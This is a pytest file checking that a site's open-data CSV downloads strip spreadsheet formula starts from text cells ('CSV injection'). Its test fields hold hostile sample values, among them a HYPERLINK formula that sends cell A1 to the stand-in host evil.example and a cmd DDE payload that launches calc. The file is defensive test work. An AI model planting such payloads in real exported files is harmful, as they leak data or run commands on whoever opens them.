"""Issue 12, CSV: the open-data downloads cannot carry spreadsheet formulas.

A text field that begins with =, +, -, @ (or a tab or carriage return, OWASP's list) is run
as a formula by spreadsheet programs when the CSV is opened ("CSV injection"). In every .csv
file of the site, no text cell may start with one of them; numbers stay plain numbers, so a
negative amount is still -12.5, not text.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from trust_support import NOW, copy_project, deal, dealsite, write

pytestmark = pytest.mark.xdist_group("trust-csv")

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(?:\.\d+)?$")
MARK = "zqxcsv"

# Each text field of the deal, with a formula at its start (as YAML double-quoted text).
FIELDS = {
    "title": rf'"=HYPERLINK(\"http://evil.example/?\"&A1,\"{MARK} title\")"',
    "summary": rf'"+1+1 {MARK} summary"',
    "place": rf'"-1+1 {MARK} place"',
    "partner": rf'"@SUM(1+1) {MARK} partner"',
    "outcome_title": rf'"=1+1 {MARK} outcome title"',
    "indicator": rf'"+cmd|\" /C calc\"!A0 {MARK} indicator"',
    "unit": rf'"-2+3 {MARK} unit"',
    "commentary": rf'"@cmd {MARK} commentary"',
    "remedial": rf'"\t=1+1 {MARK} remedial"',
    "power_note": rf'"\r=1+1 {MARK} power note"',
    "body": rf'"=1+1 {MARK} body"',
    "stream": rf'"+1+1 {MARK} stream"',
    "scheme": rf'"-1-1 {MARK} scheme"',
    "scheme_body": rf'"@A1 {MARK} scheme body"',
    "event_title": rf'"=2+2 {MARK} event title"',
    "event_note": rf'"-cmd {MARK} event note"',
}


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    project = copy_project(tmp_path_factory.mktemp("csv") / "project")
    write(project / "deals" / "zqx-csv.yaml", deal(**FIELDS))
    result = dealsite(project, "build", "-q", at=NOW)
    assert result.returncode == 0, result.stderr[-3000:]
    return project / "site"


def _rows(path: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def _cells(site: Path):
    for path in sorted(site.rglob("*.csv")):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
        for r, row in enumerate(rows, start=1):
            for c, cell in enumerate(row):
                yield path.relative_to(site).as_posix(), r, rows[0][c] if c < len(rows[0]) else c, cell


def test_the_hostile_deal_reaches_the_csv_files(site):
    # So the next test checks something: the deal's text is in its downloads.
    hit = {(file, column) for file, _, column, cell in _cells(site) if MARK in cell}
    assert len({column for _, column in hit}) >= 8, sorted(hit)
    assert any(file.startswith("data/") for file, _ in hit) and any(file.startswith("deals/zqx-csv/") for file, _ in hit)


def test_no_text_cell_of_any_csv_starts_a_formula(site):
    found = [
        f"{file}:{row}: {column}={cell!r}"
        for file, row, column, cell in _cells(site)
        if cell.startswith(TRIGGERS) and not NUMBER.match(cell)
    ]
    assert found == [], "\n".join(found)


def test_negative_numbers_stay_plain_exact_numbers(site):
    # Kent's Gateways scheme costs more than it returns in 2012-13 (6.4m in, 3.6m back).
    for path, deal_column in ((site / "data" / "invest-to-save-by-year.csv", True), (site / "deals" / "kent" / "invest-to-save-by-year.csv", False)):
        rows = [r for r in _rows(path) if r["financial_year"] == "2012-13" and (not deal_column or r["deal"] == "kent")]
        assert [(r["net_benefit_gbp"], r["cumulative_net_benefit_gbp"]) for r in rows] == [("-2800000.00", "-2800000.00")], path
    # The hostile deal's own scheme: 4.0m in, 0.5m back in 2012-13.
    rows = [r for r in _rows(site / "deals" / "zqx-csv" / "invest-to-save-by-year.csv") if r["financial_year"] == "2012-13"]
    assert [r["net_benefit_gbp"] for r in rows] == ["-3500000.00"]
    # A gap below the expected path is negative too (Kent's services-online: 37 against 40).
    rows = [r for r in _rows(site / "deals" / "kent" / "outcomes-progress.csv") if r["outcome_id"] == "services-online"]
    assert [r["gap"] for r in rows] == ["-3.0000"]
